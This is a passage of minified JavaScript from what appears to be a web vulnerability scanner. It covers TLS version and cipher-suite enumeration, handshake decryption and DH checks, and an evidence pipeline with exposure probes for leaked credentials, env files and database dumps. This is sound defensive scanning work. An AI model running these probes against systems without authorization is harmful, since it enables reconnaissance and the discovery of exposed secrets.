session.signal.removeEventListener("abort", onAbort);
listener = null;
resolve(chunk);
};
const onAbort = () => finish(Buffer.alloc(0));
const timer = setTimeout(onAbort, timeoutMs);
session.signal.addEventListener("abort", onAbort, {
once: true
});
listener = finish;
if (isClosed || session.signal.aborted) finish(Buffer.alloc(0));
});
const hello = clientHello({
version: survey.version,
suites: survey.likelySuites,
serverName: session.serverName,
random: (0, external_node_crypto_.randomBytes)(32),
heartbeat: heartbeat
});
const reader = new FlightReader;
socket.write(toRecord(hello, survey.version));
const deadline = performance.now() + session.timeoutMs;
while (!reader.isOver && !isClosed && performance.now() < deadline) reader.push(await next(Math.max(1, deadline - performance.now())));
if (!reader.flight.isComplete) {
socket.destroy();
return null;
}
return {
socket: socket,
reader: reader,
isClosed: () => isClosed,
send: (bytes, timeoutMs = session.timeoutMs) => {
if (!isClosed) socket.write(bytes);
return next(timeoutMs);
}
};
}
function record(type, survey, payload) {
const version = WIRE_VERSIONS[survey.version];
return Buffer.concat([ Buffer.from([ type, version >> 8, version & 255, 0, payload.length ]), payload ]);
}
const CHAINS_MAX = 8;
const DH_MAX = 32;
class Observations {
#chains=new Map;
#dh=new Map;
#groups=new Set;
#secureRenegotiation=null;
note(response) {
if (response.kind !== "accepted" || response.flight?.hello == null) return;
const {hello: hello, certificates: certificates, keyExchange: keyExchange} = response.flight;
if (hello.version <= 771) this.#secureRenegotiation = this.#secureRenegotiation !== false && hello.extensions.has(65281);
if (certificates !== null && certificates.length > 0) this.#noteChain(certificates);
if (keyExchange === null) return;
const name = (0, code_points.Qx)(hello.suite);
const parameters = parseServerKeyExchange(name, keyExchange);
if (parameters?.kind === "ecdh") this.#groups.add(parameters.group);
if (parameters?.kind === "dh" && this.#dh.size < DH_MAX) {
const {prime: prime, generator: generator} = parameters;
const key = `${prime.toString("hex")}/${generator.toString("hex")}`;
const known = this.#dh.get(key);
if (known === undefined || name < known.suite) this.#dh.set(key, {
prime: Buffer.from(prime),
generator: Buffer.from(generator),
bits: bitLength(prime),
suite: name
});
}
}
get chains() {
return [ ...this.#chains.values() ];
}
get dh() {
return [ ...this.#dh.values() ].sort((a, b) => a.bits - b.bits || Buffer.compare(a.prime, b.prime) || (a.suite < b.suite ? -1 : 1));
}
get groups() {
return [ ...this.#groups ].sort((a, b) => a - b);
}
get secureRenegotiation() {
return this.#secureRenegotiation;
}
#noteChain(certificates) {
const leaf = certificates[0];
if (leaf === undefined) return;
const key = leaf.toString("base64");
if (!this.#chains.has(key) && this.#chains.size < CHAINS_MAX) this.#chains.set(key, certificates.slice(0, 32).map(der => Buffer.from(der)));
}
}
function revealsDh(code) {
return (0, suite_traits.S$)((0, code_points.Qx)(code)).isDhe;
}
const PARAMETERS = {
4865: {
hash: "sha256",
cipher: "aes-128-gcm",
keyBytes: 16,
tagBytes: 16
},
4866: {
hash: "sha384",
cipher: "aes-256-gcm",
keyBytes: 32,
tagBytes: 16
},
4867: {
hash: "sha256",
cipher: "chacha20-poly1305",
keyBytes: 32,
tagBytes: 16
},
4868: {
hash: "sha256",
cipher: "aes-128-ccm",
keyBytes: 16,
tagBytes: 16
},
4869: {
hash: "sha256",
cipher: "aes-128-ccm",
keyBytes: 16,
tagBytes: 8
}
};
function serverHandshakeOpener(suite, sharedSecret, transcript) {
const parameters = PARAMETERS[suite];
if (parameters === undefined) return null;
const {hash: hash, cipher: cipher, keyBytes: keyBytes, tagBytes: tagBytes} = parameters;
const digest = data => (0, external_node_crypto_.createHash)(hash).update(data).digest();
const empty = digest(Buffer.alloc(0));
const zeros = Buffer.alloc(empty.length);
const extract = (salt, secret) => (0, external_node_crypto_.createHmac)(hash, salt).update(secret).digest();
const expand = (secret, label, context, length) => {
const name = Buffer.from(`tls13 ${label}`, "latin1");
const info = Buffer.concat([ Buffer.from([ length >> 8, length & 255, name.length ]), name, Buffer.from([ context.length ]), context ]);
return (0, external_node_crypto_.createHmac)(hash, secret).update(info).update(Buffer.from([ 1 ])).digest().subarray(0, length);
};
const early = extract(zeros, zeros);
const handshake = extract(expand(early, "derived", empty, empty.length), sharedSecret);
const traffic = expand(handshake, "s hs traffic", digest(Buffer.concat(transcript)), empty.length);
const key = expand(traffic, "key", Buffer.alloc(0), keyBytes);
const iv = expand(traffic, "iv", Buffer.alloc(0), 12);
let sequence = 0;
return (header, payload) => {
if (payload.length < tagBytes + 1) return null;
const nonce = Buffer.from(iv);
nonce.writeUInt32BE((nonce.readUInt32BE(8) ^ sequence) >>> 0, 8);
sequence += 1;
const sealed = payload.subarray(0, payload.length - tagBytes);
try {
const decipher = (0, external_node_crypto_.createDecipheriv)(cipher, key, nonce, {
authTagLength: tagBytes
});
decipher.setAuthTag(payload.subarray(payload.length - tagBytes));
decipher.setAAD(header, {
plaintextLength: sealed.length
});
const inner = Buffer.concat([ decipher.update(sealed), decipher.final() ]);
let end = inner.length;
while (end > 0 && inner[end - 1] === 0) end -= 1;
if (end === 0) return null;
return {
type: inner.readUInt8(end - 1),
content: inner.subarray(0, end - 1)
};
} catch {
return null;
}
};
}
function hashedFirstHello(suite, hello) {
const parameters = PARAMETERS[suite];
if (parameters === undefined) return null;
const digest = (0, external_node_crypto_.createHash)(parameters.hash).update(hello).digest();
return Buffer.concat([ Buffer.from([ 254, 0, 0, digest.length ]), digest ]);
}
async function handshake(socket, options, until, limits) {
const fixed = {
...options,
random: (0, external_node_crypto_.randomBytes)(32),
sessionId: (0, external_node_crypto_.randomBytes)(options.version === "TLSv1.3" ? 32 : 0)
};
const first = clientHello(fixed);
const deadline = performance.now() + limits.timeoutMs;
let reader = new FlightReader((hello, message) => openerFor(limits.keys, hello, [ first, message ]));
let end = await converse(socket, toRecord(first, options.version), reader, until, deadline, limits.signal);
const {hello: hello, helloMessage: helloMessage} = reader.flight;
if (until !== "hello" && hello?.isRetry === true && helloMessage !== null) {
const second = helloAfterRetry(fixed, hello, limits.keys);
const hashed = hashedFirstHello(hello.suite, first);
if (second !== null && hashed !== null) {
const transcript = [ hashed, helloMessage, second ];
reader = new FlightReader((next, message) => openerFor(limits.keys, next, [ ...transcript, message ]));
end = await converse(socket, toRecord(second, options.version), reader, until, deadline, limits.signal);
}
}
socket.destroy();
return {
kind: handshake_kindOf(reader.flight, options),
flight: reader.flight,
timedOut: end === "timeout",
helloBytes: first.length
};
}
function handshake_kindOf(flight, options) {
const {hello: hello, fault: fault, alert: alert} = flight;
if (hello !== null) {
const isOffered = hello.version === WIRE_VERSIONS[options.version] && options.suites.includes(hello.suite);
return isOffered ? "accepted" : "refused";
}
if (alert !== null) return "refused";
return fault === null ? "silent" : "not-tls";
}
function openerFor(keys, hello, transcript) {
if (hello.version !== WIRE_VERSIONS["TLSv1.3"]) return null;
const share = keyShareOf(hello);
const secret = share === null ? null : keys.agree(share.group, share.publicKey);
return secret === null ? null : serverHandshakeOpener(hello.suite, secret, transcript);
}
function helloAfterRetry(options, retry, keys) {
const wanted = keyShareOf(retry);
const share = wanted === null ? null : keys.share(wanted.group);
if (share === null) return null;
const cookie = retry.extensions.get(44);
return clientHello({
...options,
keyShares: [ share ],
cookie: cookie?.subarray(2)
});
}
function handshake_isEnough(reader, until) {
if (reader.isOver) return true;
const {hello: hello, certificates: certificates} = reader.flight;
return until === "hello" && hello !== null || until === "certificates" && certificates !== null;
}
function converse(socket, bytes, reader, until, deadline, signal) {
return new Promise(resolve => {
const finish = end => {
clearTimeout(timer);
signal.removeEventListener("abort", onAbort);
socket.off("data", onData);
socket.off("close", onClose);
socket.off("end", onClose);
resolve(end);
};
const onAbort = () => finish("timeout");
const onClose = () => finish("closed");
const onData = chunk => {
reader.push(chunk);
if (handshake_isEnough(reader, until)) finish("enough");
};
const timer = setTimeout(onAbort, Math.max(1, deadline - performance.now()));
signal.addEventListener("abort", onAbort, {
once: true
});
socket.on("error", () => undefined);
socket.on("data", onData);
socket.once("close", onClose);
socket.once("end", onClose);
if (signal.aborted || socket.destroyed) finish("closed"); else socket.write(bytes);
});
}
const CONNECTIONS = {
quick: 38,
standard: 130,
compliance: 360
};
const PARALLEL = 8;
const FIRST_TIMEOUT_MS = 3e3;
const LEAST_TIMEOUT_MS = 1500;
const SHORT_HELLO_BYTES = 255;
const tls_session_TIMEOUTS_MAX = 6;
const SKIPPED = {
kind: "skipped",
flight: null,
timedOut: false,
helloBytes: 0
};
class TlsSession {
keys=new KeyRing;
#context;
#serverName;
#limit;
#lanes=new semaphore.j(PARALLEL);
#used=0;
#slowestMs=0;
#timeoutsInARow=0;
#refusesByAlert=false;
#acceptsLongHellos=false;
#limitedBy=null;
small=false;
constructor(context) {
this.#context = context;
this.#limit = CONNECTIONS[context.scanType];
this.#serverName = context.target.isIpAddress ? undefined : context.target.host;
}
get connections() {
return this.#used;
}
get connectionsLeft() {
return this.#limit - this.#used;
}
get limitedBy() {
return this.#limitedBy;
}
get acceptsLongHellos() {
return this.#acceptsLongHellos;
}
get limit() {
return this.#limit;
}
stop(reason) {
this.#limitedBy ??= reason;
}
async handshake(request) {
const response = await this.#once(request);
const isDoubtful = response.kind === "unreachable" || response.kind === "silent" && !response.timedOut && this.#refusesByAlert;
return isDoubtful ? await this.#once(request) : response;
}
async socket() {
return await this.#lanes.run(() => this.#connect());
}
get timeoutMs() {
return this.#slowestMs === 0 ? FIRST_TIMEOUT_MS : Math.min(FIRST_TIMEOUT_MS, Math.max(LEAST_TIMEOUT_MS, this.#slowestMs * 10));
}
get signal() {
return this.#context.signal;
}
get serverName() {
return this.#serverName;
}
async #once({until: until, ...options}) {
return await this.#lanes.run(async () => {
const startedAt = performance.now();
const socket = await this.#connect();
if (socket === null) return this.#limitedBy === null ? {
...SKIPPED,
kind: "unreachable"
} : SKIPPED;
const limits = {
keys: this.keys,
timeoutMs: this.timeoutMs,
signal: this.#context.signal
};
const response = await handshake(socket, {
...options,
serverName: this.#serverName
}, until, limits);
this.#learn(response, performance.now() - startedAt);
return response;
});
}
#learn(response, elapsedMs) {
if (response.timedOut) {
this.#timeoutsInARow += 1;
if (this.#timeoutsInARow >= tls_session_TIMEOUTS_MAX) this.#limitedBy ??= "the server stopped responding";
return;
}
this.#timeoutsInARow = 0;
this.#slowestMs = Math.max(this.#slowestMs, elapsedMs);
if (response.flight?.alert !== null && response.kind === "refused") this.#refusesByAlert = true;
if (response.helloBytes > SHORT_HELLO_BYTES && (response.kind === "accepted" || response.kind === "refused")) this.#acceptsLongHellos = true;
}
async #connect() {
if (this.#limitedBy !== null) return null;
if (this.#used >= this.#limit) {
this.#limitedBy = `the budget of ${this.#limit} TLS connections`;
return null;
}
this.#used += 1;
try {
return await this.#context.connect();
} catch (error) {
if (!(error instanceof ProbeError)) throw error;
if (error.code === "budget") this.#limitedBy = "the connection budget of the scan";
if (error.code === "aborted") this.#limitedBy = "the end of the scan";
return null;
}
}
}
const SUITES_PER_HELLO = 118;
const SUITES_PER_SMALL_HELLO = 24;
class VersionSurvey {
version;
#session;
#observations;
#accepted=new Set;
#undecided;
constructor(version, session, observations) {
this.version = version;
this.#session = session;
this.#observations = observations;
const usualFirst = [ ...suite_traits.iO, ...(0, suite_traits.f3)(version) ];
const fitting = new Set((0, suite_traits.f3)(version));
this.#undecided = new Set(usualFirst.filter(code => fitting.has(code)));
}
get isAccepted() {
return this.#accepted.size > 0;
}
get undecided() {
return [ ...this.#undecided ];
}
get supportedOrOpen() {
return [ ...this.#accepted, ...this.#undecided ];
}
get likelySuites() {
const accepted = (0, suite_traits.f3)(this.version).filter(code => this.#accepted.has(code));
const common = suite_traits.iO.filter(code => (0, suite_traits.vC)(code, this.version));
return [ ...new Set([ ...accepted, ...common ]) ].slice(0, 60);
}
chunks(suites) {
const size = this.#session.small ? SUITES_PER_SMALL_HELLO : SUITES_PER_HELLO;
const count = Math.ceil(suites.length / size);
return Array.from({
length: count
}, (_, index) => suites.slice(index * size, (index + 1) * size));
}
async offer(suites, until, groups) {
const shares = [ 29, 23 ].flatMap(group => this.#session.keys.share(group) ?? []);
const response = await this.#session.handshake({
version: this.version,
suites: suites,
small: this.#session.small,
until: until ?? (this.version !== "TLSv1.3" && suites.some(revealsDh) ? "flight" : "hello"),
...this.version === "TLSv1.3" ? {
keyShares: shares
} : {},
...groups === undefined ? {} : {
groups: groups
}
});
this.learn(suites, response);
return response;
}
learn(suites, response) {
this.#observations.note(response);
const {hello: hello} = response.flight ?? {};
if (response.kind === "accepted" && hello != null) {
this.#accepted.add(hello.suite);
this.#undecided.delete(hello.suite);
} else if (response.kind === "refused" || response.kind === "silent" && !response.timedOut) for (const code of suites) this.#undecided.delete(code);
}
reopen(suites) {
for (const code of suites) this.#undecided.add(code);
}
toSupport(isDeep) {
const suites = [ ...this.#accepted ].sort((a, b) => a - b).map(code => ({
code: code,
name: (0, code_points.Qx)(code)
}));
const enumerated = isDeep && this.isAccepted && this.#undecided.size === 0;
return {
version: this.version,
accepted: this.isAccepted,
suites: suites,
enumerated: enumerated
};
}
}
const FALLBACK_REFUSED = 86;
async function findCompression(survey, session) {
const response = await session.handshake({
version: survey.version,
suites: survey.likelySuites,
small: session.small,
offerCompression: true,
until: "hello"
});
if (response.kind === "refused" || response.kind === "silent") return false;
const {hello: hello} = response.flight ?? {};
return hello == null || response.kind !== "accepted" ? null : hello.compression !== 0;
}
async function findFallbackScsv(surveys, session) {
const accepted = surveys.filter(({isAccepted: isAccepted}) => isAccepted).sort((a, b) => rank(b.version) - rank(a.version));
const lower = accepted[1];
if (lower === undefined) return null;
const response = await session.handshake({
version: lower.version,
suites: lower.likelySuites,
small: session.small,
fallback: true,
until: "hello"
});
if (response.kind === "refused") return response.flight?.alert === FALLBACK_REFUSED;
return response.kind === "accepted" ? false : null;
}
function rank(version) {
return WIRE_VERSIONS[version];
}
const VERSIONS = [ "TLSv1.3", "TLSv1.2", "TLSv1.1", "TLSv1.0", "SSLv3" ];
const RETRIES = 8;
async function gatherTls(context) {
const {target: target, scanType: scanType} = context;
if (target.scheme !== "https") return {
state: "not_applicable",
reason: "the target uses plain HTTP"
};
const session = new TlsSession(context);
const observations = new Observations;
const isQuick = scanType === "quick";
const surveys = VERSIONS.map(version => new VersionSurvey(version, session, observations));
const [ssl2, ...responses] = await Promise.all([ probeSsl2(session), ...surveys.map(survey => findVersion(survey, session, {
isQuick: isQuick
})) ]);
const accepted = surveys.filter(({isAccepted: isAccepted}) => isAccepted);
if (accepted.length === 0 && ssl2 === null) return {
state: "failed",
code: "tls",
reason: whyNone(responses, session)
};
const older = accepted.filter(({version: version}) => version !== "TLSv1.3");
await Promise.all(older.map(survey => findFamilies(survey, WEAK_FAMILIES)));
if (!isQuick) {
await Promise.all(older.map(survey => findFamilies(survey, OTHER_FAMILIES)));
await findOtherCertificates(older[0], observations);
}
const [newestOld] = older;
const compression = isQuick || newestOld === undefined ? null : await findCompression(newestOld, session);
const fallbackScsv = isQuick ? null : await findFallbackScsv(surveys, session);
const isDeep = scanType === "compliance";
const groups = isDeep ? await findGroups(surveys, session, observations) : observations.groups;
const knownBugs = isDeep && newestOld !== undefined ? await probeKnownBugs(newestOld, session) : null;
const isConclusive = session.limitedBy === null;
if (!isQuick) for (const survey of accepted) await enumerateSuites(survey, session, session.connectionsLeft - RETRIES);
const store = rootStore(context.trustedRoots);
const chains = sortChains(observations, responses, ssl2).map(ders => judgeChain(ders, target.host, store, context.now)).map(chain => accepted.length === 0 ? ofSsl2(chain) : chain);
const [first = judgeChain([], target.host, store, context.now), ...otherChains] = chains;
return {
state: "available",
value: {
...first,
endpoint: `tls://${(0, target_address.V8)(target.host, target.port)}`,
versions: [ ...surveys.map(survey => survey.toSupport(!isQuick)), ssl2Support(ssl2) ].reverse(),
otherChains: otherChains.filter(({chain: chain}) => chain.length > 0),
dh: await judgeDh(observations, isDeep),
compression: compression,
secureRenegotiation: observations.secureRenegotiation,
fallbackScsv: fallbackScsv,
groups: groups.map(code_points.hv),
knownBugs: knownBugs,
connections: session.connections,
limitedBy: session.limitedBy,
isConclusive: isConclusive
}
};
}
function whyNone(responses, session) {
if (responses.some(({kind: kind}) => kind === "not-tls")) return "the port does not speak TLS";
if (session.limitedBy !== null) return `the server did not respond to any TLS handshake (${session.limitedBy})`;
return responses.some(({kind: kind}) => kind === "refused") ? "the server refused every TLS version and suite" : "the server did not respond to any TLS handshake";
}
async function findOtherCertificates(survey, observations) {
if (survey === undefined || observations.chains.length === 0) return;
const kinds = [ /_ECDSA_WITH/, /_RSA_WITH/ ].map(pattern => survey.supportedOrOpen.filter(code => pattern.test((0, 
code_points.Qx)(code))));
await Promise.all(kinds.map(async suites => {
const authenticated = suites.filter(code => !(0, suite_traits.S$)((0, code_points.Qx)(code)).isExport);
if (authenticated.length > 0) await survey.offer(authenticated.slice(0, 100), "certificates");
}));
}
async function findGroups(surveys, session, observations) {
const newest = surveys.find(({version: version, isAccepted: isAccepted}) => isAccepted && version !== "TLSv1.3" && version !== "SSLv3")?.version;
const isTls13 = surveys.some(({version: version, isAccepted: isAccepted}) => isAccepted && version === "TLSv1.3");
const [groups, curves] = await Promise.all([ isTls13 ? findTls13Groups(session) : [], newest === "TLSv1.0" || newest === "TLSv1.1" || newest === "TLSv1.2" ? findCurves(session, newest) : [] ]);
return [ ...new Set([ ...groups, ...curves, ...observations.groups ]) ].sort((a, b) => a - b);
}
function sortChains(observations, responses, ssl2) {
const best = responses.find(({kind: kind, flight: flight}) => kind === "accepted" && (flight?.certificates?.length ?? 0) > 0)?.flight?.certificates;
const rest = observations.chains.filter(([leaf]) => leaf !== undefined && best?.[0]?.equals(leaf) !== true).sort((a, b) => Buffer.compare(a[0] ?? Buffer.alloc(0), b[0] ?? Buffer.alloc(0)));
const old = ssl2 !== null && best === undefined && rest.length === 0 && ssl2.certificate.length > 0 ? [ [ ssl2.certificate ] ] : [];
return [ ...best == null ? [] : [ best ], ...rest, ...old ];
}
function ofSsl2(chain) {
if (chain.trust.fault !== "incomplete-chain" && chain.trust.fault !== "unknown-issuer") return chain;
return {
...chain,
trust: {
trusted: false,
fault: null,
detail: "SSLv2 carries no intermediate certificates"
}
};
}
function ssl2Support(response) {
const kinds = [ ...new Set(response?.kinds ?? []) ].slice(0, 64).sort((a, b) => a - b);
return {
version: "SSLv2",
accepted: response !== null,
suites: kinds.map(code => ({
code: code,
name: (0, code_points.oR)(code)
})),
enumerated: response !== null
};
}
async function judgeDh(observations, withPrimes) {
return await Promise.all(observations.dh.map(async ({prime: prime, generator: generator, bits: bits, suite: suite}) => ({
bits: bits,
prime: prime,
generator: generator,
prime_is_safe: withPrimes ? await judgePrime(prime) : null,
suite: suite
})));
}
const GATHERERS = {
landing: gatherLanding,
plainHttp: gatherPlainHttp,
crawl: gatherCrawl,
views: gatherViews,
browser: gatherBrowser,
operations: gatherOperations,
api: gatherApi,
surface: gatherSurface,
secondResponses: gatherSecondResponses,
cors: gatherCors,
methods: gatherMethods,
securityTxt: gatherSecurityTxt,
exposure: gatherExposure,
tls: gatherTls,
libraries: gatherLibraries,
active: gatherActive,
access: gatherAccess,
ports: gatherPorts,
dns: gatherDns,
email: gatherEmail
};
var resolve_host = __webpack_require__(69124);
const GRACE_MS = 300;
const COUNTED = new Set([ "views", "active", "exposure" ]);
const PLAIN_METHODS = new Set([ "GET", "HEAD" ]);
class EvidenceStore {
#shared;
#gatherers;
#gathered=new Map;
#needs=new Map;
#cutShort=new Set;
#timeouts=new Map;
#last=new Set;
#endFirst=() => {};
constructor(shared, gatherRules) {
this.#shared = shared;
this.#gatherers = {
...GATHERERS,
rules: gatherRules
};
}
gather(kind) {
const known = this.#gathered.get(kind);
if (known !== undefined) return known;
const running = this.#run(kind, this.#gatherers[kind]);
this.#gathered.set(kind, running);
return running;
}
async begin() {
const ended = new Promise(resolve => {
this.#endFirst = resolve;
});
await Promise.race([ ended, this.gather("active") ]);
}
async gathered(kind) {
const known = await this.#gathered.get(kind);
return known?.state === "available" ? known.value : null;
}
wasCutShort(kind) {
return this.#cutShort.has(kind) || [ ...this.#needs.get(kind) ?? [] ].some(other => this.wasCutShort(other));
}
timeouts(kind) {
return this.#timeouts.get(kind) ?? 0;
}
async #run(kind, gatherer) {
try {
const running = gatherer(this.#contextOf(kind));
return await (0, resolve_host.Eu)(running, (0, semaphore.H)(this.#shared.signal, GRACE_MS));
} catch (error) {
const {signal: signal} = this.#shared;
if (signal.aborted) {
this.#cutShort.add(kind);
return {
state: "failed",
code: "budget",
reason: "the time budget of the scan ended"
};
}
if (error instanceof ProbeError) return {
state: "failed",
code: error.code,
reason: error.message
};
const detail = error instanceof Error ? `${error.name}: ${error.message}` : "unknown error";
return {
state: "failed",
code: "internal",
reason: detail.slice(0, 300)
};
}
}
#contextOf(kind) {
const shared = this.#shared;
const needs = new Set;
this.#needs.set(kind, needs);
const note = attempt => {
if ((0, http.m_)(attempt)) return attempt;
if (attempt.failure.code === "budget" && !COUNTED.has(kind)) this.#cutShort.add(kind);
if (attempt.failure.code === "timeout") this.#timeouts.set(kind, this.timeouts(kind) + 1);
return attempt;
};
return {
...shared,
fetch: async given => {
const anonymous = kind === "exposure" ? {
identity: "none",
...given
} : given;
const request = kind === "rules" ? {
...anonymous,
isOfRule: true
} : anonymous;
if (request.method !== undefined && !PLAIN_METHODS.has(request.method)) await this.#tlsGathered(kind);
return note(await shared.fetch(request));
},
connect: async port => {
try {
return await shared.connect(port);
} catch (error) {
if (error instanceof ProbeError && (error.code === "budget" || error.code === "aborted")) {
this.#cutShort.add(kind);
}
throw error;
}
},
spareRequests: async () => {
this.#last.add(kind);
const others = [ ...this.#gathered ].filter(([other]) => !this.#last.has(other) && !this.#dependsOn(other, kind));
await Promise.all(others.map(([, running]) => running));
return shared.requestsLeft();
},
endFirst: () => this.#endFirst(),
gather: other => {
if (other === kind || this.#dependsOn(other, kind)) {
return Promise.resolve({
state: "failed",
code: "internal",
reason: `evidence ${kind} and ${other} need each other`
});
}
needs.add(other);
return this.gather(other);
}
};
}
async #tlsGathered(kind) {
if (kind !== "tls" && !this.#dependsOn("tls", kind)) await this.#gathered.get("tls");
}
#dependsOn(kind, wanted) {
const needs = this.#needs.get(kind) ?? new Set;
return needs.has(wanted) || [ ...needs ].some(other => this.#dependsOn(other, wanted));
}
}
var core_check = __webpack_require__(95139);
const EXPOSURE_FAMILIES = [ "vcs", "env", "credentials", "database-dump", "backup-source", "monitoring", "directory-listing", "api-docs", "metadata", "open-product", "admin-page" ];
function observedProof(check, draft, evidence) {
const {url: url, method: method} = draft.location;
if (check.needs.includes("browser")) return {
steps: [],
browser: {
url: url,
steps: [ `Open ${url}` ],
executed: draft.evidence
}
};
const seen = attemptsOf(evidence).filter(({request: request}) => request.url === url);
const attempt = seen.find(({request: request}) => request.method === method) ?? seen[0];
if (attempt !== undefined) return (0, proof.vV)(attempt, quoteOf(draft, attempt));
return /^https?:/.test(url) ? {
steps: [ (0, proof.PM)("proof", {
request: {
method: method ?? "GET",
url: url,
headers: []
}
}) ]
} : null;
}
function attemptsOf(evidence) {
const {landing: landing, plainHttp: plainHttp, methods: methods, secondResponses: secondResponses, securityTxt: securityTxt, exposure: exposure, browser: browser, api: api} = evidence;
return [ evidence.crawl?.pages.map(({exchange: exchange}) => exchange) ?? [], landing?.chain ?? [], ofCrawl(evidence.crawl), plainHttp?.attempts ?? [], methods === undefined ? [] : [ methods.options, methods.trace, ...methods.inner ?? [] ], secondResponses?.responses ?? [], securityTxt?.wellKnown ?? [], exposure?.probes.map(({attempt: attempt}) => attempt) ?? [], ofProbes(evidence.active), browser?.exchanges ?? [], api?.responses ?? [] ].flat();
}
function ofCrawl(crawl) {
if (crawl === undefined) return [];
const maps = crawl.sourceMaps?.map(({exchange: exchange}) => exchange) ?? [];
return [ ...crawl.resources, ...crawl.redirects ?? [], ...crawl.errorPages ?? [], ...maps ];
}
function ofProbes(active) {
if (active === undefined) return [];
return [ ...active.posted ?? [], ...active.failures ?? [], ...active.probes.map(({exchange: exchange}) => exchange) ];
}
function quoteOf({quote: quote, location: {parameter: parameter}}, attempt) {
if (quote !== undefined) return {
texts: quote
};
if (parameter === undefined || !(0, http.m_)(attempt)) return {
texts: []
};
if ((0, http.wx)(attempt.response.headers, parameter) !== undefined) return {
headers: [ parameter ]
};
return {
headers: [ "Set-Cookie" ],
having: `${parameter}=`
};
}
const VERBS = {
pages: "read",
views: "opened",
operations: "requested",
inputs: "tested"
};
function describeLeftOut(kind, reach) {
if (reach === undefined || reach.left_out.length === 0) return null;
const {known: known, covered: covered, left_out: left} = reach;
const reasons = left.map(({reason: reason, count: count}) => `${contract_coverage.Pz[reason]} (${(0, 
shared_text.B4)(count)})`);
return `${(0, shared_text.B4)(covered)} of at least ${(0, shared_text.B4)(known)} ${kind} were ${VERBS[kind]}: ${reasons.join(", ")}`;
}
async function outcomeOf(check, store, context, options) {
if (options.isDisabled) return without(check, "not_applicable", "disabled by the options of the scan");
const needed = await gatherNeeded(check, store);
if ("outcome" in needed) return needed;
const evidence = {
...needed,
...await gatherUsed(check, store, options.wanted)
};
await options.yieldToEventLoop();
try {
const verdict = check.evaluate(evidence, context);
if ("notApplicable" in verdict) return without(check, "not_applicable", verdict.notApplicable + await redirectNote(check, store));
const drafts = verdict.map(draft => withProof(check, draft, evidence));
return await judged(check, store, evidence, {
findings: findingsOf(check.meta, drafts, options.findings),
options: options.findings.options
});
} catch (error) {
if (error instanceof core_check.sZ) return without(check, "error", error.message);
const what = error instanceof Error ? `${error.name}: ${error.message}` : "unknown";
return without(check, "error", `the check failed: ${what}`);
}
}
function withProof(check, draft, evidence) {
const proof = draft.proof ?? observedProof(check, draft, evidence);
return proof === null ? draft : {
...draft,
proof: proof
};
}
function without(check, status, reason) {
const outcome = {
...outcome_named(check),
status: status,
reason: reason === null ? null : reason.slice(0, 500),
findings: 0
};
return {
outcome: outcome,
findings: []
};
}
async function gatherNeeded(check, store) {
const evidence = {};
for (const kind of check.needs) {
const gathered = await store.gather(kind);
if (gathered.state === "not_applicable") return without(check, "not_applicable", gathered.reason);
if (gathered.state === "failed") return without(check, "error", `${gathered.code}: ${gathered.reason}`);
Object.assign(evidence, {
[kind]: gathered.value
});
}
return evidence;
}
async function gatherUsed({uses: uses}, store, wanted) {
const evidence = {};
for (const kind of uses.filter(one => wanted.has(one))) {
const gathered = await store.gather(kind);
if (gathered.state === "available") Object.assign(evidence, {
[kind]: gathered.value
});
}
return evidence;
}
async function judged(check, store, evidence, {findings: findings, options: options}) {
const doubt = check.needs.some(kind => kind !== "rules" && store.wasCutShort(kind)) ? "budget: the scan budget ended before everything was checked" : inconclusiveReason(check, evidence);
if (findings.length === 0 && doubt !== null) return without(check, "error", doubt);
const limits = await limitsOf(check, store, evidence, options);
const notes = doubt === null ? [ ...limits.leftOut, ...limits.notes ] : [ doubt ];
const reason = notes.length === 0 ? null : notes.join("; ");
if (findings.length > 0) return {
outcome: {
...outcome_named(check),
status: "finding",
reason: reason,
findings: findings.length
},
findings: findings
};
const passed = without(check, "passed", reason);
return limits.leftOut.length === 0 ? passed : {
...passed,
outcome: {
...passed.outcome,
partial: true
}
};
}
const isOfCrawl = kind => OF_PAGES.has(kind) && kind !== "exposure";
const OF_PAGES = new Set([ "crawl", "browser", "operations", "api", "surface", "secondResponses", "cors", "methods", "exposure", "libraries", "active", "access" ]);
function inconclusiveReason({meta: meta, needs: needs}, {tls: tls, browser: browser, exposure: exposure}) {
if (exposure !== undefined && isUnrequested(meta.id, exposure)) return "budget: the scan budget ended before any of its paths was requested";
if (tls?.isConclusive === false) return `incomplete: ${tls.limitedBy ?? "the TLS enumeration ended early"}`;
return needs.includes("browser") && browser?.incomplete != null ? `incomplete: in the browser, ${browser.incomplete}` : null;
}
const OF_OPERATIONS = new Set([ "operations", "api" ]);
async function limitsOf({meta: meta, needs: needs}, store, {tls: tls, exposure: exposure, active: active, api: api, browser: browser, rules: rules}, options) {
const restrictions = [ "include_paths", "exclude_paths" ].filter(name => (options[name]?.length ?? 0) > 0);
const isRestricted = restrictions.length > 0 && needs.some(kind => OF_PAGES.has(kind));
const sources = needs.filter(kind => OF_PAGES.has(kind)).map(kind => kind === "browser" ? "views" : kind);
const timeouts = sources.reduce((sum, kind) => sum + store.timeouts(kind), 0);
const excluded = exposure?.leftOut?.length ?? 0;
const crawl = needs.some(isOfCrawl) ? await store.gathered("crawl") : null;
const operations = needs.some(kind => OF_OPERATIONS.has(kind)) ? await store.gathered("operations") : null;
const leftOut = [ ...reachLimit("pages", crawl), ...reachLimit("views", browser ?? null), ...reachLimit("operations", operations), ...reachLimit("inputs", active ?? null), ...active === undefined || crawl === null ? [] : fieldsLimit(crawl), ...exposure === undefined ? [] : exposureLimit(meta.id, exposure), ...api?.isCutShort === true ? [ "operations left out: the requests for them were used up" ] : [], ...browserLimit(browser), ...ruleLimit(rules?.results.get(meta.id)), ...timeouts > 0 ? [ `${(0, 
shared_text.LS)(timeouts, "request")} got no response in time` ] : [] ];
const notes = [ ...isRestricted ? [ `limited by ${restrictions.join(" and ")}` ] : [], ...excluded > 0 ? [ `${(0, 
shared_text.LS)(excluded, "exposure path")} left out` ] : [], ...tls?.limitedBy == null ? [] : [ `suites were listed up to ${tls.limitedBy}` ] ];
return {
leftOut: leftOut,
notes: notes
};
}
function reachLimit(kind, evidence) {
const leftOut = describeLeftOut(kind, evidence?.reach);
return leftOut === null ? [] : [ leftOut ];
}
function browserLimit(browser) {
const limits = describeLimits(browser?.limits ?? []);
return limits === null ? [] : [ `in the browser, ${limits}` ];
}
function fieldsLimit({fieldsLeftOut: fieldsLeftOut = 0}) {
if (fieldsLeftOut === 0) return [];
return [ `limit of ${insertion_points_PAIRS_MAX} fields of a form; ${(0, shared_text.LS)(fieldsLeftOut, "field")} not probed` ];
}
function ruleLimit(result) {
